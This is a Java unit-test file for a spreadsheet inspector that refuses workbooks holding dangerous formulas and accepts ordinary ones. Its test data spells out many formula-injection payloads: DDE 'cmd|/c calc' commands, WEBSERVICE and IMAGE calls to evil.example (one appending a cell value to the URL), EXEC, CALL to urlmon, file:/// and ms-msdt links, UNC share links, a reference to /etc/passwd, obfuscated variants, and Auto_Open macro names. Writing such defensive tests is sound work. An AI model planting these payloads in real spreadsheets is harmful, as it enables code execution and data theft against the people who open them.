package vn.lienket.content;

import static org.assertj.core.api.Assertions.assertThatCode;
import static vn.lienket.content.Inspections.assertRefused;
import static vn.lienket.content.Inspections.document;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.List;
import org.apache.poi.common.usermodel.HyperlinkType;
import org.apache.poi.ss.util.CellRangeAddress;
import org.apache.poi.ss.util.CellRangeAddressList;
import org.apache.poi.xssf.usermodel.XSSFHyperlink;
import org.apache.poi.xssf.usermodel.XSSFName;
import org.apache.poi.xssf.usermodel.XSSFRow;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class FormulaInspectionTest {

    private static final String LINKS_ELSEWHERE = "liên kết tới tệp khác";

    @ParameterizedTest
    @CsvSource(
            delimiter = '~',
            quoteCharacter = '`',
            value = {
                "cmd|'/c calc'!A0 ~ DDE",
                "'cmd'|'/c calc'!A0 ~ DDE",
                "SUM(A1)+MSEXCEL|'\\..\\cmd.exe'!A0 ~ DDE",
                "WEBSERVICE(\"https://evil.example\") ~ hàm WEBSERVICE",
                "IF(A1, _xlfn.WEBSERVICE (A2),1) ~ hàm WEBSERVICE",
                "MAP(A1:A3,_xleta.WEBSERVICE) ~ hàm WEBSERVICE",
                "_xlfn.IMAGE(\"https://evil.example/\"&amp;A1) ~ hàm IMAGE",
                "_xlfn._xlws.PY(0,0) ~ hàm PY",
                "call(\"urlmon\",\"a\") ~ hàm CALL",
                "REGISTER.ID(\"a\",\"b\") ~ hàm REGISTER.ID",
                "EXEC(\"calc\") ~ hàm EXEC",
                "RTD(\"a\",,\"b\") ~ hàm RTD",
                "HYPERLINK(\"file:///c:/a.exe\",\"a\") ~ siêu liên kết",
                "HYPERLINK(\"fi\"&amp;\"le:///c:/a.exe\",\"a\") ~ siêu liên kết",
                "HYPERLINK(CHAR(102)&amp;\"ile:a\") ~ siêu liên kết",
                "HYPERLINK(IF(A1,\"#a\",\"ms-msdt:/id\")) ~ siêu liên kết",
                "HYPERLINK(\"\\\\host\\share\\a.exe\") ~ siêu liên kết",
                "SUM('\\\\host\\share\\[a.xlsx]A'!A1) ~ liên kết tới tệp khác",
                "\\\\host\\share\\a ~ liên kết tới tệp khác",
                "'https://evil.example/[a.xlsx]A'!A1 ~ liên kết tới tệp khác",
                "[https://evil.example/a.xlsx]A!A1 ~ liên kết tới tệp khác",
                "INDIRECT(\"'\\\\host\\share\\[a.xlsx]A'!A1\") ~ liên kết tới tệp khác",
                "INDIRECT(\"'file:///etc/passwd'#$A.A1\") ~ liên kết tới tệp khác",
                "WEB<x:a xmlns:x='x'/>SERVICE(A1) ~ phần tử lạ"
            })
    void aFormulaThatRunsOrFetchesIsRefusedWhereverItStands(String formula, String named) {
        for (byte[] file : List.of(
                HostileFiles.sheet("<c><f>" + formula + "</f></c>"),
                HostileFiles.sheet("<c><x:f xmlns:x='x' t='array'><![CDATA["
                        + formula.replace("&amp;", "&").replaceAll("<[^>]*>", "]]>$0<![CDATA[") + "]]></x:f></c>"),
                HostileFiles.sheet("<cfRule><formula>" + formula + "</formula></cfRule>"),
                HostileFiles.sheet(
                        "<dataValidation><formula1>1</formula1><formula2>" + formula + "</formula2></dataValidation>"),
                HostileFiles.sheet("<x14:formula1><xm:f>" + formula + "</xm:f></x14:formula1>"),
                HostileFiles.sheet("<calculatedColumnFormula>" + formula + "</calculatedColumnFormula>"),
                HostileFiles.workbook("<definedName name='a'>" + formula + "</definedName>", ""))) {
            assertRefused(() -> document(file), named);
        }
    }

    @Test
    void aFormulaBehindManyBlanksOrInABitOfADrawingIsRefused() {
        assertRefused(() -> document(HostileFiles.sheet("<c><f>" + " ".repeat(9_000) + "EXEC(1)</f></c>")), "hàm EXEC");
        assertRefused(() -> document(HostileFiles.sheet("<cfvo type='formula' val='EXEC(1)'/>")), "hàm EXEC");
        assertRefused(
                () -> document(HostileFiles.sheet("<xdr:sp macro=\"'\\\\host\\a.xlsm'!Run\"/>")), LINKS_ELSEWHERE);
        assertRefused(() -> document(HostileFiles.sheet("<f>" + "1+".repeat(40_000) + "</f>")), "tệp đã hỏng");
        assertRefused(() -> document(HostileFiles.sheet("<f></g>".repeat(1_000))), "tệp đã hỏng");
        assertRefused(() -> document(HostileFiles.sheet("<f>'a + EXEC(1)</f>")), "hàm EXEC");
        assertRefused(
                () -> document(HostileFiles.sheet("<f>\uf8ff\"#\"+HYPERLINK(\"file:///a\")</f>")), "siêu liên kết");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "_xlnm.Auto_Open",
                "Auto_Open",
                "auto_close",
                "_xlnm.Auto_Activate",
                "AUTO_DEACTIVATE2",
                "Auto&#x200b;_Open"
            })
    void aNameThatRunsOfItselfIsRefused(String name) {
        assertRefused(
                () -> document(HostileFiles.workbook("<definedName name='" + name + "'>A!A1</definedName>", "")),
                "macro");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "SUM(A1:A9)",
                "IF(A1&gt;0,VLOOKUP(A1,'Bảng giá 2026'!$A$1:$B$9,2,FALSE),\"A|B: c:\\d\")",
                "HYPERLINK(\"https://binhduong.gov.vn/?q=\"&amp;A1&amp;\"&amp;t=Note: a\",\"Xem: trang\")",
                "HYPERLINK(\"mailto:\"&amp;A1)",
                "HYPERLINK(\"#'\"&amp;A1&amp;\"'!A1\",CHAR(10)&amp;\"file: a\")",
                "HYPERLINK(\"#A!A1\")",
                "HYPERLINK(A1,\"Mở\")",
                "HYPERLINK(\"[Sổ.xlsx]A!A1\",\"a\")",
                "'Sổ 1|2'!A1",
                "'Bình''s'!A1",
                "SUM(A:C!A1)",
                "Table1[[#This Row],[Giá | đơn vị/chiếc]]*Table1[[#Totals],[a'[b'] \"c]]",
                "[0]!Name+SUM([1]A!A1)",
                "_xlfn.XLOOKUP(A1,B:B,C:C)+_xlfn.STDEV.S(A:A)",
                "#REF!",
                "{\"a\",1;\"b\",2}",
                "IMAGES+CALL1+CALLS(A1)"
            })
    void anOrdinaryFormulaPasses(String formula) {
        assertThatCode(() -> {
                    document(HostileFiles.sheet("<c><f>" + formula + "</f></c>"));
                    document(HostileFiles.sheet("<x14:formula1><xm:f>" + formula + "</xm:f></x14:formula1>"));
                    document(HostileFiles.workbook(
                            "<definedName name='_xlnm.Print_Area' localSheetId='0'>A!$A$1</definedName>"
                                    + "<definedName name='_xlfn.IMAGE' hidden='1'>#NAME?</definedName>"
                                    + "<definedName name='Automatic'>" + formula + "</definedName>",
                            "<xdr:sp macro=''/><xdr:sp macro='[0]!A'/>"));
                })
                .doesNotThrowAnyException();
    }

    @Test
    void whatPeopleMakeWithTheirProgramPasses() throws IOException {
        byte[] workbook = workbookAsPeopleMakeThem();
        assertThatCode(() -> document(workbook)).doesNotThrowAnyException();
        assertThatCode(() -> Inspections.table(workbook)).doesNotThrowAnyException();
    }

    private static byte[] workbookAsPeopleMakeThem() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (XSSFWorkbook workbook = new XSSFWorkbook()) {
            XSSFSheet sheet = workbook.createSheet("Giá | 2026");
            XSSFRow row = sheet.createRow(0);
            row.createCell(0).setCellFormula("SUM(B1:B9)");
            row.createCell(1).setCellFormula("VLOOKUP(A1,'Giá | 2026'!C1:D9,2,FALSE)");
            row.createCell(2).setCellFormula("HYPERLINK(\"https://binhduong.gov.vn/\",\"Trang\")");
            XSSFHyperlink link = workbook.getCreationHelper().createHyperlink(HyperlinkType.URL);
            link.setAddress("https://binhduong.gov.vn/");
            row.getCell(0).setHyperlink(link);
            XSSFHyperlink inside = workbook.getCreationHelper().createHyperlink(HyperlinkType.DOCUMENT);
            inside.setAddress("'Giá | 2026'!A1");
            row.getCell(1).setHyperlink(inside);
            sheet.getSheetConditionalFormatting()
                    .addConditionalFormatting(
                            new CellRangeAddress[] {CellRangeAddress.valueOf("A1:A9")},
                            sheet.getSheetConditionalFormatting().createConditionalFormattingRule("A1>$B$1"));
            sheet.addValidationData(sheet.getDataValidationHelper()
                    .createValidation(
                            sheet.getDataValidationHelper().createExplicitListConstraint(new String[] {"Có", "Không"}),
                            new CellRangeAddressList(0, 9, 3, 3)));
            XSSFName name = workbook.createName();
            name.setNameName("Tong");
            name.setRefersToFormula("'Giá | 2026'!$A$1");
            workbook.write(out);
        }
        return out.toByteArray();
    }
}
